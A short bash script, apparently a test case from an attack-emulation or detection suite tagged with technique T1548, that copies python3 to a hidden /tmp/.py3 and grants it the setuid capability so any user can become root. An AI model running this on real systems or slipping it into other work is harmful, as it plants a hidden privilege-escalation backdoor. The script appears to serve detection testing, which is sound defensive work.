#!/bin/bash
# Give a hidden copy of python the setuid capability: anyone running it can become root.
# technique: T1548
# expect: file-capability-set
set -eu
cp -L /usr/bin/python3 /tmp/.py3
setcap cap_setuid+ep /tmp/.py3
getcap /tmp/.py3
